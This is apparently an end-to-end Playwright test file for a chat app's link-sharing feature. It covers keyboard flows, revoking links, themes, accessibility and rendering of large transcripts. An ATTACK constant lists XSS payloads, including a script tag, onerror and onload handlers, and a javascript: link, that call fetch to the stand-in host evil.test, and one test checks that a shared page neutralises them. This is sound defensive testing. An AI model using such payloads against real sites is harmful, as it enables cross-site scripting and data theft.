import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Session } from '../../contract/sessions.ts';
import type { Share, ShareList } from '../../contract/shares.ts';
import type { RecordedRequest } from '../harness/scripted-provider.ts';
import { type Script, text } from '../harness/scripted-script.ts';
import { violations } from './axe.ts';
import { BrowserStage, composer, said } from './stage.ts';

const TITLE = 'What shall we plant?';
const ANSWER = [
  '## A plan\n\nSome **beans**, says [the almanac](https://almanac.test/beans).',
  '| where | what |\n|---|---|\n| south | beans |',
  '```ts\nconst beds = 4;\n```\n\nThat is all.',
].join('\n\n');
const ATTACK = [
  '<script>fetch("https://evil.test/?script")</script>',
  '<img src="https://evil.test/?html" onerror="fetch(\'https://evil.test/?onerror\')">',
  '![elsewhere](https://evil.test/?image)',
  '![here](/api/files/0199-secret)',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/?meta">',
  '<iframe src="/api/sessions"></iframe>',
  '[click](javascript:fetch("https://evil.test/?js"))',
  '[bank.test](https://evil.test/?claims)',
  '<svg onload="fetch(\'/api/sessions\')"></svg>',
].join('\n\n');

let stage: BrowserStage;
let session: string;
let link: Share;
beforeAll(async () => {
  stage = await BrowserStage.start({
    agents: [
      { agentId: 'ada', displayName: 'Ada Gardener', toolAllowlist: ['todo_*'] },
      { agentId: 'boss', displayName: 'Boss', agentAllowlist: ['ada'], delegation: { tags: true } },
      { agentId: 'mallory' },
    ],
  });
  stage.provider.script(play);
  session = await talk();
  link = await share(session, { toolDetails: true });
}, 60_000);
afterAll(() => stage.close());

/** The boss has Ada look it up; Ada writes it down and answers; Mallory is as bad as can be. */
function play({ body, said: words }: RecordedRequest): Script {
  const last = (body.messages as { role: string }[]).at(-1);
  if (body.model === 'model-of-mallory') return { steps: text(`${ATTACK}\n\nThe end of it.`) };
  if (body.model === 'model-of-boss') {
    const isAnswered = words.startsWith('[Those you asked');
    return { steps: text(isAnswered ? 'So it is.' : 'Ada knows. <delegate to="ada">Look it up</delegate>') };
  }
  if (last?.role === 'tool' || !words.includes('Look it up')) return { steps: text(ANSWER) };
  return { steps: [{ kind: 'toolCall', name: 'todo_add', input: '{"title":"rhubarb"}' }] };
}

async function talk(): Promise<string> {
  const { id } = await stage.parley.createSession({ agentId: 'boss' });
  const file = await stage.parley.ok<{ id: string }>('POST', '/api/files?name=garden.txt', 'beds');
  await stage.parley.say(id, { content: TITLE, files: [file.id] });
  await stage.parley.say(id, { content: 'And you?', guest: 'ada' });
  return id;
}

function share(id: string, wish: object = {}): Promise<Share> {
  return stage.parley.ok<Share>('POST', `/api/sessions/${id}/shares`, wish);
}

async function linksOf(id: string): Promise<Share[]> {
  return (await stage.parley.ok<ShareList>('GET', `/api/shares?session=${id}`)).shares;
}

/** A browser that nobody has signed in. */
async function visit(url: string, options: Parameters<Browser['newContext']>[0] = {}) {
  browser ??= (await stage.open('/')).context().browser()!;
  const context = await browser.newContext({
    reducedMotion: 'reduce',
    viewport: { width: 1440, height: 900 },
    ...options,
  });
  const page = await stage.watch(await context.newPage());
  const asked: string[] = [];
  page.on('request', (request) => {
    const { pathname } = new URL(request.url());
    if (!/^\/(?:s|assets)\/|^\/(?:theme\.js|icon\.svg)$/.test(pathname)) asked.push(`${request.method()} ${pathname}`);
  });
  await page.goto(url);
  return { page, asked, context };
}
let browser: Browser | undefined;

const dataOf = ({ url }: Share) => `GET ${new URL(url).pathname.replace('/s/', '/api/public/shares/')}`;
const words = (page: Page, found: string) => page.getByRole('main').getByText(found).first();

/** Tab by tab until something has the keyboard. */
async function tabTo(page: Page, wanted: Locator): Promise<void> {
  for (let presses = 0; presses < 40; presses++) {
    await page.keyboard.press('Tab');
    if ((await wanted.and(page.locator(':focus')).count()) > 0) return;
  }
  throw new Error(`the keyboard never came to ${wanted}`);
}

describe('sharing', () => {
  test('a session is shared from the list by keyboard alone, and read by somebody who is not signed in', {
    timeout: 90_000,
  }, async () => {
    const id = await talk();
    const page = await stage.open(`/sessions/${id}`);
    await said(page, 'And you?').waitFor();
    await tabTo(page, page.locator(`[role=treeitem][data-key="${id}"]`));
    await page.keyboard.press('Shift+F10');
    await page.getByRole('menuitem', { name: 'Share…' }).waitFor();
    await page.keyboard.type('Sh');
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: `Share “${TITLE}”` });
    await dialog.getByText('works on this machine only').waitFor();
    await tabTo(page, dialog.getByRole('button', { name: 'Create link' }));
    await page.keyboard.press('Enter');
    const field = dialog.getByRole('textbox', { name: `Link to “${TITLE}”, made` });
    await field.and(page.locator(':focus')).waitFor();
    await dialog.getByRole('status').getByText('The link is ready.').waitFor();
    const url = await field.inputValue();
    expect((await linksOf(id)).map((each) => each.url)).toEqual([url]);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    await page.locator(`[role=treeitem][data-key="${id}"]:focus`).waitFor();

    const { page: other, asked, context } = await visit(url);
    await words(other, 'So it is.').waitFor();
    await other.getByRole('heading', { level: 1, name: TITLE }).waitFor();
    await words(other, 'Read-only copy').waitFor();
    expect(asked).toEqual([dataOf({ url } as Share)]);
    expect(await context.cookies()).toEqual([]);
    const page1 = await other.content();
    for (const hidden of [id, 'rhubarb', /[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-/]) expect(page1).not.toMatch(hidden);
    expect(stage.trouble).toEqual([]);
  });

  test('the palette, a key and the composer lead there too, and give the keyboard back', {
    timeout: 90_000,
  }, async () => {
    const page = await stage.open(`/sessions/${session}`);
    const dialog = page.getByRole('dialog', { name: 'Share' });
    await composer(page).focus();
    for (let twice = 0; twice < 2; twice++) {
      await page.keyboard.press('Control+k');
      await page.getByRole('combobox').fill('Share this');
      await page.keyboard.press('Enter');
      await dialog.waitFor();
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
      await page.locator('[data-composer] textarea:focus').waitFor();
    }
    await composer(page).fill('/share');
    await page.keyboard.press('Enter');
    await dialog.waitFor();
    await page.keyboard.press('Escape');
    await page.locator('[data-composer] textarea:focus').waitFor();
    expect(await composer(page).inputValue()).toBe('');
    await page.locator('#main').focus();
    await page.keyboard.press('s');
    await dialog.waitFor();
    await page.goto(`${stage.parley.url}/settings`);
    await page.getByRole('heading', { name: 'Shared links' }).waitFor();
    await page.keyboard.press('s');
    await page.getByText('Open the session that you want to share first.').waitFor();
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('Share this');
    await page.getByText('Nothing found.').waitFor();
  });

  test('a link is copied with the clipboard of the page, or without one', { timeout: 60_000 }, async () => {
    const permissions = ['clipboard-read', 'clipboard-write'];
    const page = await stage.open(`/sessions/${session}`, { permissions });
    const dialog = page.getByRole('dialog');
    await page.locator('#main').focus();
    await page.keyboard.press('s');
    const copy = dialog.getByRole('button', { name: /^Copy the link/ }).first();
    for (const forgets of [false, true]) {
      await page.evaluate('navigator.clipboard.writeText("before")');
      if (forgets)
        await page.evaluate(`globalThis.kept = navigator.clipboard;
          Object.defineProperty(navigator, 'clipboard', { value: undefined })`);
      await copy.click();
      await dialog.getByText('The link is copied.').waitFor();
      const copied = await page.evaluate('(globalThis.kept ?? navigator.clipboard).readText()');
      expect([forgets, copied]).toEqual([forgets, link.url]);
    }
    expect(stage.trouble).toEqual([]);
  });

  test('what tools were given is shown only to those for whom it was wanted', { timeout: 60_000 }, async () => {
    const plain = await visit((await share(session)).url);
    await words(plain.page, 'todo_add').waitFor();
    expect(await plain.page.getByRole('button', { name: /todo_add/ }).count()).toBe(0);
    const { page } = await visit(link.url);
    await page.getByRole('button', { name: /todo_add/ }).click();
    await page.getByText('"title": "rhubarb"').waitFor();
  });

  test('where nothing was said there is nothing to share, and it says so', { timeout: 60_000 }, async () => {
    const { id } = await stage.parley.createSession({ agentId: 'ada' });
    const page = await stage.open(`/sessions/${id}`);
    await page.getByRole('main').getByText('Ada Gardener').first().waitFor();
    await page.locator('#main').focus();
    await page.keyboard.press('s');
    const dialog = page.getByRole('dialog');
    await dialog.getByText('Nothing has been said here yet.').waitFor();
    expect(await dialog.getByRole('button', { name: 'Create link' }).count()).toBe(0);
  });
});

describe('who reads', () => {
  test('sees who said what, in which part', { timeout: 60_000 }, async () => {
    const { page } = await visit(link.url);
    await words(page, 'So it is.').waitFor();
    const messages = page.getByRole('article');
    expect(
      await messages.evaluateAll((all) => all.map((each) => each.getAttribute('aria-label')?.split(',')[0])),
    ).toEqual(['Person', 'Boss', 'Ada Gardener', 'Boss', 'Person', 'Ada Gardener']);
    await words(page, 'Delegating to Ada Gardener — Look it up').waitFor();
    await messages.nth(2).getByText('sub-agent of Boss').waitFor();
    await messages.nth(0).getByText('garden.txt').waitFor();
    await messages.nth(5).getByText('guest', { exact: true }).waitFor();
    expect(await page.title()).toBe(`${TITLE} · Parley`);
  });

  test('is harmed by nothing that a model wrote, and asks nobody for anything', { timeout: 60_000 }, async () => {
    const { id } = await stage.parley.createSession({ agentId: 'mallory' });
    await stage.parley.say(id, { content: ATTACK });
    const shared = await share(id);
    const { page, asked } = await visit(shared.url);
    await words(page, 'The end of it.').waitFor();
    const main = page.getByRole('main');
    for (const tag of ['script', 'iframe', 'img', 'meta', 'svg[onload]'])
      expect([tag, await main.locator(tag).count()]).toEqual([tag, 0]);
    await main.getByRole('link', { name: /bank\.test/ }).click();
    await page.getByRole('dialog').getByText('https://evil.test/?claims').waitFor();
    await page.keyboard.press('Escape');
    expect(page.url()).toBe(shared.url);
    expect(asked).toEqual([dataOf(shared)]);
    expect(stage.trouble).toEqual([]);
  });

  test('reads in their own language and light, and both are kept', { timeout: 60_000 }, async () => {
    const { page } = await visit(link.url, { locale: 'de-DE', colorScheme: 'dark' });
    await words(page, 'Kopie, nur zum Lesen').waitFor();
    const theme = () => page.evaluate('document.documentElement.dataset.theme');
    expect(await theme()).toBe('dark');
    await page
      .getByRole('combobox', { name: 'Darstellung' })
      .or(page.getByRole('combobox'))
      .first()
      .selectOption('light');
    expect(await theme()).toBe('light');
    await page.getByRole('combobox').last().selectOption('en');
    await words(page, 'Read-only copy').waitFor();
    await page.reload();
    await words(page, 'Read-only copy').waitFor();
    expect(await theme()).toBe('light');
  });

  test('gets everything on paper, in dark ink', { timeout: 60_000 }, async () => {
    const { page } = await visit(link.url, { colorScheme: 'dark' });
    await words(page, 'So it is.').waitFor();
    await page.evaluate(`globalThis.printed = null; addEventListener('beforeprint', () => {
      globalThis.printed = document.documentElement.dataset.theme + ' ' + document.querySelectorAll('article').length;
    })`);
    expect((await page.pdf()).length).toBeGreaterThan(1000);
    expect(await page.evaluate('globalThis.printed')).toBe('light 6');
    expect(await page.evaluate('document.documentElement.dataset.theme')).toBe('dark');
  });

  test('is not held up by ten thousand messages', { timeout: 120_000 }, async () => {
    const messages = Array.from({ length: 10_000 }, (_, at) => ({
      role: at % 2 ? 'assistant' : 'user',
      content: `Message **number** ${at}\n\n- one\n- two\n\n\`\`\`ts\nconst at = ${at};\n\`\`\``,
      ...(at % 2 && { agent: 'ada' }),
    }));
    const { id } = await stage.parley.ok<Session>('POST', '/api/imports', { agent: 'ada', messages });
    const shared = await share(id);
    const { page } = await visit('about:blank');
    const meter = await page.context().newCDPSession(page);
    await meter.send('Performance.enable', { timeDomain: 'threadTicks' });
    await page.goto(shared.url);
    await words(page, 'const at = 1;').waitFor();
    await page.keyboard.press('End');
    await words(page, 'const at = 9999;').waitFor();
    await page.getByText('This is where the copy ends.').waitFor();
    expect(await page.getByRole('article').count()).toBeLessThanOrEqual(400);
    const { metrics } = await meter.send('Performance.getMetrics');
    expect(metrics.find(({ name }) => name === 'TaskDuration')!.value).toBeLessThan(4);
  });
});

describe('a link that is taken back', () => {
  test('leads nowhere, in the same words as one that never was', { timeout: 90_000 }, async () => {
    const id = await talk();
    const shared = await share(id);
    const page = await stage.open('/settings');
    const section = page.getByRole('region', { name: 'Shared links' }).first();
    const row = section.getByRole('listitem').filter({ has: page.locator(`[value="${shared.url}"]`) });
    await row.getByRole('link', { name: TITLE }).waitFor();
    await row.getByRole('button', { name: /^Take back/ }).click();
    await row.getByText('This cannot be undone.').waitFor();
    await page.keyboard.press('Escape');
    await row.locator('button[aria-expanded=false]:focus').waitFor();
    expect(await linksOf(id)).toHaveLength(1);
    await page.keyboard.press('Enter');
    await page.context().setOffline(true);
    await row.getByRole('button', { name: 'Yes, take it back' }).click();
    await row.getByText('It is not taken back yet').waitFor();
    await page.context().setOffline(false);
    await row.getByRole('button', { name: 'Yes, take it back' }).click();
    await section.getByRole('status').getByText('Taken back: the link leads nowhere now.').waitFor();
    await row.waitFor({ state: 'detached' });
    expect(await linksOf(id)).toEqual([]);
    const said: (string | null)[] = [];
    for (const url of [
      shared.url,
      `${stage.parley.url}/s/${'x'.repeat(43)}`,
      `${stage.parley.url}/s/${'y'.repeat(300)}`,
    ]) {
      const { page: other } = await visit(url);
      await other.getByRole('heading', { name: 'This link leads nowhere' }).waitFor();
      said.push(await other.getByRole('main').textContent());
    }
    expect(new Set(said).size).toBe(1);
    expect(stage.trouble).toEqual([]);
  });

  test('is not taken for one when the server cannot be reached', { timeout: 60_000 }, async () => {
    const { page } = await visit('about:blank');
    await page.route('**/api/public/shares/*', (route) => route.abort());
    await page.goto(link.url);
    await page.getByRole('heading', { name: 'This page could not be loaded' }).waitFor();
    await page.unroute('**/api/public/shares/*');
    await page.getByRole('button', { name: 'Try again' }).click();
    await words(page, 'So it is.').waitFor();
  });
});

describe('going on from a copy', () => {
  test('is for whoever is signed in; the original stays as it is', { timeout: 90_000 }, async () => {
    const before = await stage.parley.messages(session);
    const { page: stranger } = await visit(link.url);
    await words(stranger, 'open this link in a browser that is signed in to this Parley').waitFor();
    expect(await stranger.getByRole('button', { name: 'Continue as a copy' }).count()).toBe(0);
    const page = await stage.openTab(await stage.open('/'), new URL(link.url).pathname);
    await page.getByRole('button', { name: 'Continue as a copy' }).first().click();
    await page.waitForURL('**/sessions/*');
    await said(page, 'So it is.').waitFor();
    const copy = new URL(page.url()).pathname.split('/').at(-1)!;
    expect(copy).not.toBe(session);
    await composer(page).fill('And what about peas?');
    await composer(page).press('Enter');
    await said(page, 'And what about peas?').waitFor();
    await expect.poll(async () => (await stage.parley.messages(copy)).length).toBeGreaterThan(before.length);
    expect(await stage.parley.messages(session)).toEqual(before);
    const { page: after } = await visit(link.url);
    await words(after, 'So it is.').waitFor();
    expect(await after.getByText('peas').count()).toBe(0);
    expect(stage.trouble).toEqual([]);
  });
});

describe.each(['dark', 'light'] as const)('in the %s theme', (colorScheme) => {
  test('what shares and what is shared passes the checks for WCAG 2.2 AA, wide and narrow', {
    timeout: 90_000,
  }, async () => {
    const { page: other } = await visit(link.url, { colorScheme });
    await words(other, 'So it is.').waitFor();
    await other.getByRole('button', { name: /todo_add/ }).click();
    const { page: nowhere } = await visit(`${stage.parley.url}/s/none`, { colorScheme });
    await nowhere.getByRole('heading', { name: 'This link leads nowhere' }).waitFor();
    const page = await stage.open(`/sessions/${session}`, { colorScheme });
    await said(page, 'So it is.').waitFor();
    await page.locator('#main').focus();
    await page.keyboard.press('s');
    await page.getByRole('button', { name: 'Create link' }).click();
    await page
      .getByRole('button', { name: /^Take back/ })
      .first()
      .click();
    const tab = await stage.openTab(page, '/settings#shares');
    await tab
      .getByRole('button', { name: /^Take back/ })
      .first()
      .waitFor();
    const shown = { 'share-dialog': page, shared: other, 'shared-nowhere': nowhere, 'shared-links': tab };
    for (const [name, each] of Object.entries(shown))
      for (const width of [1440, 360]) {
        await each.setViewportSize({ width, height: width === 360 ? 740 : 900 });
        await each.evaluate('document.fonts.ready.then(() => undefined)');
        await stage.shot(each, `${name}-${colorScheme}${width === 360 ? '-360' : ''}`);
        expect([name, width, await violations(each)]).toEqual([name, width, []]);
        expect([name, await each.evaluate('document.documentElement.scrollWidth - innerWidth')]).toEqual([name, 0]);
      }
    expect(stage.trouble).toEqual([]);
  });
});
